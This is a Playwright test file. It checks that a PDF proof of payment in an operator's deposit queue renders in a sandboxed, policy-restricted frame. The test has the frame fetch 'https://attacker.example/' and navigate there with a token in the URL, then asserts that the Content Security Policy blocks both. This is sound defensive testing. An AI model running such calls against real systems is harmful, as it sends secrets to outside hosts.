import type { APIRequestContext, Locator, Page } from '@playwright/test';
import { expectAccessibleFrame } from '../../support/axe.js';
import { announce, onlyCases } from '../../support/cases.js';
import { type PickedFile, aPdf, aPng } from '../../support/files.js';
import { whatIsWithinReach } from '../../support/frames.js';
import { expect, test } from '../../support/journey.js';
import { OPERATOR, newInvestor } from '../../support/people.js';
import { settled } from '../../support/places.js';
import { signInAs } from '../../support/sign-in.js';
import { lineDuring } from '../../support/waits.js';

const HASH = 'c0ffee254729296a45a3885639ac7e10f9d54979a0d7f1e3c5b9a8e7f6d5c4b3';

const LAST = 'The eighth page';

/** Opens the queue with deposits of these proofs, in this order. @returns the proof of the one that is open */
async function openQueue(page: Page, request: APIRequestContext, proofs: PickedFile[]): Promise<Locator> {
  const investor = await newInvestor(request);
  const ids: string[] = [];
  for (const [index, proof] of proofs.entries()) ids.push(await announce(request, investor, 250 + index, proof));
  await signInAs(page, OPERATOR);
  await onlyCases(page, ids);
  await page.goto('/operations/deposits');
  return page.getByRole('region', { name: 'Proof of payment' });
}

async function frameOf(document: Locator) {
  const frame = await (await document.elementHandle())?.contentFrame();
  if (!frame) throw new Error('There is no frame');
  return frame;
}

test('a PDF is read in place, in a document that reaches nothing of ours', async ({ page, request, complaints }) => {
  const pages = [HASH, ...Array.from({ length: 6 }, (_, index) => `Page ${index + 2}`), LAST];
  const proof = await openQueue(page, request, [aPdf(...pages), aPng(900)]);
  const document = proof.getByTitle('Proof of payment, payment.pdf');
  const shown = document.contentFrame();
  await expect(shown.getByText(HASH)).toBeVisible();
  await expect(proof.getByText('payment.pdf, 8 pages')).toBeVisible();
  const inks = shown.getByRole('group', { name: 'Page 1 of 8' }).locator('canvas');
  expect(await inks.evaluate(darkPixels), 'the page is drawn').toBeGreaterThan(100);
  await expect(shown.getByRole('link')).toHaveCount(0);

  // Only what is in view, or nearly, takes memory.
  const last = shown.getByRole('group', { name: 'Page 8 of 8' });
  await expect(last.locator('canvas')).toHaveCount(0);
  await last.scrollIntoViewIfNeeded();
  await expect(shown.getByText(LAST)).toBeVisible();
  await expect(inks).toHaveCount(0);
  await settled(page);
  const frame = await frameOf(document);
  await expectAccessibleFrame(frame, 'a PDF');

  expect(await frame.evaluate(() => self.origin)).toBe('null');
  expect(await frame.evaluate(whatIsWithinReach)).toEqual([]);
  complaints.expect(/^The policy stopped connect-src: /);
  complaints.expect(/^(Connecting to|Fetch API cannot load) .+ Content Security Policy/);
  for (const address of ['/v1/market/assets', 'https://attacker.example/']) {
    const asked = frame.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => url), address);
    await expect(asked).rejects.toThrow('Failed to fetch');
  }
  // Not even by going elsewhere: the page around lets no other address into the frame.
  complaints.expect(/^The policy stopped frame-src: /);
  complaints.expect(/^Framing .+ Content Security Policy/);
  const stopped = await lineDuring(page, 'The policy stopped frame-src: ', () =>
    frame.evaluate(() => void location.assign('https://attacker.example/?found=a-token')),
  );
  expect(stopped).toContain('https://attacker.example');
  await page.keyboard.press('j');
  await expect(proof.getByRole('img', { name: 'Proof of payment, picture.png' })).toBeVisible();
});

/** Runs in the document. */
function darkPixels(canvas: Element): number {
  if (!(canvas instanceof HTMLCanvasElement)) return 0;
  const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
  return [...data].filter((value, index) => index % 4 === 0 && value < 100).length;
}
